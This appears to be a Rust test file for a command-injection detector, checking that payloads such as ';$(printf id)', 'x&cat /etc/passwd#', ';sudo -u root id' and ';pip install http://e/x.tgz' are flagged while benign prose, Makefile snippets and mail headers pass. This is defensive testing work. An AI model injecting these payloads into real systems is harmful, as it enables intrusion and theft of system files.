//! Commands that other programs start, and texts with the names of programs.

use super::{check, field, header, json, named, serde_json, value};
use crate::send::Sent;

#[test]
fn commands_that_other_programs_start_are_found() {
    let commands = [
        ";$(printf id)",
        "&$(printf id)",
        "|$(cat x)",
        ";`printf id`",
        ";setsid id",
        ";pkexec id",
        ";su - root -c id",
        ";su root -c id",
        ";su -c id",
        ";watch -x sh -c id",
        ";systemd-run --pipe id",
        ";nice -n 5 id",
        ";chroot / id",
        ";flock /tmp/x sh -c id",
        ";unshare -r id",
        ";nsenter -t 1 -m id",
        ";timeout 5 id",
        ";env X=1 id",
        ";stdbuf -o0 id",
        ";doas id",
        ";sudo -u root id",
        ";runuser -u root -- id",
        ";taskset 1 id",
        ";strace id",
        ";nohup setsid sh -c id",
        "&&setarch x86_64 id",
        ";start-stop-daemon -S -x /bin/id",
        ";script -c id",
        ";find . -exec id",
        ";toybox id",
        "|ksh",
        "|rbash",
        "|mksh -c id",
        ";posh -c id",
        ";fish -c id",
        ";getent passwd",
        ";lwp-download http://e/x /tmp/x",
        ";deno run https://e/x.ts",
        ";pip install http://e/x.tgz",
        ";npm install git+https://e/x",
        ";vim -c ':!id'",
        ";rpm --eval '%(id)'",
    ];
    let before = ["8.8.8.8", "http://a.example/b", "a@b.example", "é", "a,b"];
    let cases = commands.iter().flat_map(|it| before.map(|before| format!("{before}{it}")));
    check(named(cases, field), true);
    let of_json = |text: &str| json(&format!("{{\"x\":{}}}", serde_json(text)));
    check(named(commands.map(|it| format!("8.8.8.8{it}")), of_json), true);
    check(named(["8.8.8.8|ash", "http://a.example/b|ash"], value), true);
}

#[test]
fn texts_with_names_of_programs_pass() {
    let texts = [
        "We saw it; watch cat videos",
        "first; then time flies",
        "a;$('#x').show();$(document).ready(function () { $(this).y(); });$(window).on('x', f)",
        "salt; dash; ash",
        "oak|ash",
        "cat|dog|fish",
        "3.50|fish",
        "12|Fish",
        "nice shirt; nice $10",
        "he called; su casa es mi casa",
        "use `foo bar`; `baz qux`",
        "`a`;`b c`",
        "In C, `int *p = &a; *p = 5;` is fine, but `int **q = &p` is not.",
        "| `a b` | `c d` |",
        "|`a b`|`c d`|",
        "CFLAGS := $(shell pkg-config x); SRC = $(wildcard *.c)",
        "vi; emacs; nano",
        "go install it; pip install works",
        "docs; getent is a tool",
        "x; systemd-run runs things; setsid starts a session",
        "chroot; unshare; nsenter are tools",
        "see rpm; dpkg shows",
        "It is nice; nice - really",
        "exec time; time 5 min",
        "we drank; whisky 12, fish",
        "x; npm install failed",
    ];
    check(named(texts, field), false);
}

/// The head of a mail, as services deliver it.
const MAIL: &str = "Received: by mx1.mail.example with SMTP id 6WCVv7KAWn Wed, 27 Jul 2016 20:53:06 +0000 (UTC)
Received: from io0.mail.example (io0.mail.example [192.0.2.169]) by mx1.mail.example (Postfix) with ESMTPS id AA9FFA8 for <a@b.example>; Wed, 27 Jul 2016 20:53:06 +0000 (UTC)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=mail.example; s=ga1; h=mime-version:from:date; bh=DpB1CYYeumyt=; b=GH5YTxjt6r4H
Authentication-Results: mx.mail.example; spf=pass (mail.example: domain of a@b.example) smtp.mailfrom=a@b.example; dkim=pass header.i=@b.example
List-Unsubscribe: <mailto:u@b.example?subject=x>, <https://b.example/u?id=1&type=a>
Subject: =?utf-8?Q?Test_it=27s?=
Message-ID: <CAN_P_JMvV7ZpAQhOnDienypLrJmuhN=LQWweu4yScw4jQyXY2w@mail.example>
Content-Type: multipart/related; boundary=\"001a113ee97c\"; type=\"multipart/alternative\"
Content-Type: multipart/related; boundary=\"001a113ee97c\";
\ttype=\"text/html\"
Content-Disposition: inline; filename=\"a b.txt\"";

#[test]
fn names_of_parameters_are_no_commands() {
    let kind = "multipart/related; type=\"application/xop+xml\"; boundary=\"uuid:6f\"; start=\"<root.message@cxf.apache.org>\"; start-info=\"text/xml\"";
    let body = "--uuid:6f\r\nContent-Type: application/xop+xml; charset=UTF-8; type=\"text/xml\"\r\nContent-Transfer-Encoding: binary\r\nContent-ID: <root.message@cxf.apache.org>\r\n\r\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><a><xop:Include xmlns:xop=\"http://www.w3.org/2004/08/xop/include\" href=\"cid:1@cxf.apache.org\"/></a></s:Body></s:Envelope>\r\n--uuid:6f\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: binary\r\nContent-ID: <1@cxf.apache.org>\r\n\r\n\x01\x02\r\n--uuid:6f--\r\n";
    let link = "<https://a.example/?page=2>; rel=\"next\"; type=\"text/html\"";
    let lines = MAIL.lines().filter_map(|line| line.split_once(": "));
    let pairs = lines.map(|(name, text)| format!("[{},{}]", serde_json(name), serde_json(text)));
    let of_pairs = format!("[{}]", pairs.collect::<Vec<_>>().join(","));
    check(
        [
            ("MTOM", Sent::post("/service", kind, body)),
            ("Link", header("Link", link)),
            ("head of a mail", field(MAIL)),
            ("head of a mail, CRLF", field(&MAIL.replace('\n', "\r\n"))),
            ("head of a mail, JSON", field(&of_pairs)),
        ]
        .map(|(name, sent)| (name.to_owned(), sent)),
        false,
    );
    let texts = [
        "kind: A\ntype: 'b'\nid: \"c\"\necho: \"d\"",
        "a; type = \"b\"",
        "a=1; file = /var/x; dir=/tmp; cat=7",
        "a; id = 5",
        "https://a.example/?a=1&type='b'",
        "Tom & Jerry; id.mp4\"",
    ];
    check(named(texts, field), false);
    let commands = [
        "x;type c:\\boot.ini;",
        "x;id;",
        "x&cat /etc/passwd#",
        "x;cat</etc/passwd;",
        "a\nid'",
        "a;echo 1;",
        "x;sleep 5'",
        "x`id`#",
        "1;ls#",
        "1;dir c:\\ \"",
        "x;ping.exe 192.0.2.1;",
        "x;dir..\\;",
        "x; file /var/x",
    ];
    check(named(commands, field), true);
}
